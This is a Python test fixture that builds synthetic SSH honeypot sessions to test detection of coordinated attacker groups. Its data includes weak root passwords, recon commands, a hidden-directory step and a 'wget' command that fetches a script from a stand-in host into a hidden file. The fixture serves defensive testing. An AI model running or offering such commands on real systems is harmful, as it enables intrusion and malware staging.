"""Sessions for tests of coordination: ordinary sources, and a group with tools of its own."""

import random
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import polars as pl

from clew.analysis.coordination import SCHEMA

START = datetime(2025, 3, 3, tzinfo=UTC)
DAY = 86_400
GROUP = tuple(f"99.{number}.1.1" for number in range(8))
_LISTS = tuple(name for name, kind in SCHEMA.items() if isinstance(kind, pl.List))


class Sheet:
    """Rows in the making, the same for a seed."""

    def __init__(self, seed: int = 1) -> None:
        self.random = random.Random(seed)
        self.rows: list[dict[str, Any]] = []

    def add(self, source: str, second: float, **shown: Any) -> None:
        """One session."""
        start = START + timedelta(seconds=second)
        self.rows.append({
            "session_id": str(UUID(int=self.random.getrandbits(128))), "source_ip": source, "started_at": start,
            "ended_at": start + timedelta(seconds=20), "sensor": self.random.choice(("north", "south")),
            "protocol": "ssh", "target_port": 22, "client": "SSH-2.0-Go", "succeeded": False,
            **{name: [] for name in _LISTS},
        } | shown)  # fmt: skip

    def ordinary(self, sources: int = 300) -> "Sheet":
        """Sources with common habits only."""
        for number in range(sources):
            for _ in range(self.random.choice((1, 1, 2, 4))):
                tried = self.random.sample(("123456", "admin", "toor", "x1", "x2", "x3", "x4", "x5"), 3)
                self.add(
                    f"10.{number % 250}.{number // 250}.1", self.random.uniform(0, 3 * DAY),
                    credentials=[f"root\0{password}" for password in tried],
                    commands=self.random.choice((["uname -a"], ["whoami", "id"], [])),
                )  # fmt: skip
        return self

    def group(self, sources: tuple[str, ...] = GROUP, token: str = "q9f3a1") -> "Sheet":
        """Sources with a file, logins and a script of their own."""
        for source in sources:
            for _ in range(3):
                self.add(
                    source, self.random.uniform(DAY, 2 * DAY), downloads=["ab" * 32],
                    credentials=[f"svc\0zz-{token}", f"adm\0qq-{token}", "root\x00123456"],
                    commands=["uname -a", f"mkdir /var/tmp/.{token}", "wget http://198.51.100.7/x.sh -O /tmp/.x"],
                    urls=["http://198.51.100.7/x.sh"],
                )  # fmt: skip
        return self

    def frame(self) -> pl.DataFrame:
        """All rows."""
        return pl.DataFrame(self.rows, schema=SCHEMA)
